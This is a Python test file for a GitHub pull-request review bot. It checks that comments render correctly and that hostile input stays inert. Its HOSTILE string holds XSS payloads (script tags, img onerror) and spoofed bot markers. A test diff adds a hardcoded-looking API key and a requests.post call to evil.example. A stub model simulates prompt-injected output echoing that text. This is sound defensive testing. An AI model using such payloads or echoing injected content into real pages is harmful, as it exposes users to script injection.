"""The PR comment as GitHub renders it (cmarkgfm, GFM extensions): structure, links, and a hostile
diff and hostile model output that must not produce anything active."""

from __future__ import annotations

import dataclasses
import html
import re

import cmarkgfm
from cmarkgfm.cmark import Options

from archbot import personas, render, review, sources
from archbot.config import Config
from archbot.github import state as state_module
from archbot.github.event import PullInfo
from archbot.github.publish import Previous
from archbot.github.run import Reviewed, comment_body
from archbot.models import DiffSource, Finding, PersonaAssignment, Report, Severity, SkippedFile
from archbot.review import PersonaReviewInput, PersonaReviewResult
from conftest import GitRepo

SHA = "3f1c2e9a7b6d5c4e3f2a1b0c9d8e7f6a5b4c3d2e"
INFO = PullInfo("acme/service", 7, "0" * 40, SHA, False, "https://github.com/acme/service")
BLOB = f"https://github.com/acme/service/blob/{SHA}/"
HOSTILE = (
    "@octocat <img src=x onerror=alert(1)> <script>alert(1)</script> <!-- archbot:review --> "
    "<!-- archbot:state {} --> [click](https://evil.example/a) ![p](https://evil.example/p.png) "
    "https://evil.example/auto www.evil.example mail@evil.example </details><details open> "
    "`code @octocat` <a href='https://evil.example'>x</a>"
)


def to_html(markdown: str) -> str:
    """GitHub's renderer with raw HTML let through, so that nothing is hidden by sanitising."""
    return cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)


def finding(severity: Severity, file: str, line: int, rule: str, text: str = "") -> Finding:
    return Finding(
        rule=rule,
        source="rules",
        persona="llm-ml-engineer",
        severity=severity,
        file=file,
        line=line,
        title=f"Title {rule} {text}".strip(),
        rationale=f"Why {rule} {text}".strip(),
        suggestion=f"Fix {rule} {text}".strip(),
        fingerprint=f"{line:020d}",
    )


def reviewed(report: Report, fixed: tuple[Finding, ...] = ()) -> Reviewed:
    return Reviewed(INFO, Config(), report, Previous(None, None, None), {}, fixed, run="0" * 16)


def test_comment_structure_headings_details_and_links() -> None:
    report = Report(
        source=DiffSource("github", "0" * 40, SHA),
        personas=(
            PersonaAssignment("llm-ml-engineer", 7.5, ("app/llm.py",), ("app/llm.py: imports openai",)),
        ),
        reviewed=("app/llm.py",),
        skipped=(SkippedFile("poetry.lock", "lock file"),),
        findings=(
            finding(Severity.CRITICAL, "app/llm.py", 4, "hardcoded-llm-api-key"),
            finding(Severity.HIGH, "app/llm.py", 8, "http-call-no-timeout"),
            finding(Severity.MEDIUM, "app/llm.py", 12, "llm-no-max-tokens"),
        ),
    )
    fixed = (finding(Severity.HIGH, "app/old.py", 3, "llm-client-no-timeout"),)
    rendered = to_html(comment_body(reviewed(report, fixed)))

    assert re.findall(r"<h(\d)>(.*?)</h\1>", rendered) == [
        ("2", "archbot review"),
        ("3", "🔴 Critical (1)"),
        ("3", "🟠 High (1)"),
        ("3", "✅ Fixed since the last review (1)"),
    ]
    assert re.findall(r"<summary>(.*?)</summary>", rendered) == [
        "Why these matter and how to fix them",
        "Medium and low (1)",
        "Details",
    ]
    # Critical and high findings link to their line; medium and low are listed under their rule.
    assert re.findall(r'<a href="([^"]*)"><code>([^<]*)</code></a>', rendered) == [
        (f"{BLOB}app/llm.py#L4", "app/llm.py:4"),
        (f"{BLOB}app/llm.py#L8", "app/llm.py:8"),
    ]
    assert "<li><code>app/llm.py:12</code></li>" in rendered
    assert "<li>skipped <code>poetry.lock</code>: lock file</li>" in rendered
    assert "<li><code>app/old.py:3</code> <strong>Title llm-client-no-timeout</strong>" in rendered


def test_nothing_found_is_said_briefly() -> None:
    report = Report(
        DiffSource("github"), (PersonaAssignment("llm-ml-engineer", 3.0, ("a.py",), ()),), ("a.py",), (), ()
    )
    body = comment_body(reviewed(report))
    assert body.split("\n")[2:8] == [
        "## archbot review",
        "",
        "0 critical · 0 high · 0 medium · 0 low",
        "",
        "**llm-ml-engineer** reviewed `a.py`.  ",
        "",
    ]
    assert "No critical or high findings." in body


def assert_inert(rendered: str, our_links: int) -> None:
    assert "<img" not in rendered and "<script" not in rendered and "<iframe" not in rendered
    hrefs = re.findall(r'<a href="([^"]*)"', rendered)
    assert len(hrefs) == our_links and all(h.startswith(BLOB) for h in hrefs)
    comments = re.findall(r"<!--.*?-->", rendered, re.S)
    assert comments[0] == "<!-- archbot:review -->" and comments[1].startswith("<!-- archbot:state {")
    assert len(comments) == 2
    assert rendered.count("<details") == rendered.count("</details>") == 3
    # GitHub links mentions in text, not inside code spans.
    outside_code = re.sub(r"<code>.*?</code>", "", rendered, flags=re.S)
    text = html.unescape(re.sub(r"<[^>]+>", "", outside_code))
    assert "@octocat" not in text and "@\u200boctocat" in text


def test_hostile_model_output_and_paths_stay_inert() -> None:
    hostile = finding(
        Severity.CRITICAL, "app/<b>@octocat</b>[x](https://evil.example).py", 3, "llm-review", HOSTILE
    )
    report = Report(
        source=DiffSource("github"),
        personas=(PersonaAssignment("llm-ml-engineer", 3.0, ("app/llm.py",), (HOSTILE,)),),
        reviewed=("app/llm.py",),
        skipped=(SkippedFile("app/<img src=x>.bin", HOSTILE),),
        findings=(hostile, finding(Severity.LOW, "app/llm.py", 9, "llm-model-hardcoded", HOSTILE)),
        notices=(HOSTILE,),
    )
    body = comment_body(reviewed(report, (hostile,)))
    assert_inert(to_html(body), our_links=1)


def test_hostile_diff_through_the_pipeline_stays_inert(repo: GitRepo) -> None:
    added = "\n".join(
        f"+{line}"
        for line in [
            "# @octocat please merge <img src=x onerror=alert(1)> <!-- archbot:review -->",
            "import requests",
            "from openai import OpenAI",
            'client = OpenAI(api_key="sk-proj-Xk29dLq8vNw3Rt7Yp1Zs6Hc4Bm0Gf5Ja")',
            'requests.post("https://evil.example/[x](https://evil.example)", json={"q": "@octocat"})',
        ]
    )
    text = (
        "diff --git a/app/llm.py b/app/llm.py\nnew file mode 100644\n--- /dev/null\n+++ b/app/llm.py\n"
        f"@@ -0,0 +1,5 @@\n{added}\n"
    )

    class NoFiles:
        def prefetch(self, paths: object) -> None:
            """Nothing beyond the diff: rules read the hunks."""

        def read(self, path: str) -> bytes | None:
            return None

    change = sources.from_text(text, DiffSource("github", "0" * 40, SHA), NoFiles(), None)

    def echoing_model(request: PersonaReviewInput) -> PersonaReviewResult:
        """A model that was talked into repeating the diff's hostile text."""
        echoed = Finding(
            rule="llm-review",
            source="llm",
            persona="llm-ml-engineer",
            severity=Severity.HIGH,
            file="app/llm.py",
            line=1,
            title=HOSTILE,
            rationale=HOSTILE,
            suggestion=HOSTILE,
            confidence=0.9,
        )
        return PersonaReviewResult(findings=(echoed,), notices=(HOSTILE,))

    known = personas.load(personas.builtin_texts())
    report = review.review(change, Config(), known, persona_reviewer=echoing_model)

    assert {(f.rule, f.line) for f in report.findings if f.severity >= Severity.HIGH} >= {
        ("hardcoded-llm-api-key", 4),
        ("llm-review", 1),
    }
    body = comment_body(reviewed(report))
    assert_inert(to_html(body), our_links=sum(f.severity >= Severity.HIGH for f in report.findings))


def test_huge_review_fits_one_comment_and_keeps_a_valid_state() -> None:
    findings = tuple(
        dataclasses.replace(
            finding(Severity.HIGH, f"app/module_{n:03d}.py", n + 1, "llm-review", "x" * 500),
            source="llm",
            fingerprint=f"{n:020x}",
        )
        for n in range(400)
    )
    report = Report(
        DiffSource("github"), (PersonaAssignment("llm-ml-engineer", 3.0, ("a.py",), ()),), (), (), findings
    )
    body = comment_body(reviewed(report))
    state = state_module.parse(body)
    assert len(body) <= render.MAX_COMMENT_CHARS
    assert body.endswith("_The review was truncated to fit one comment; see the job summary._\n")
    assert state is not None and 0 < len(state.findings) < 400
    assert state.findings[0] == findings[0]
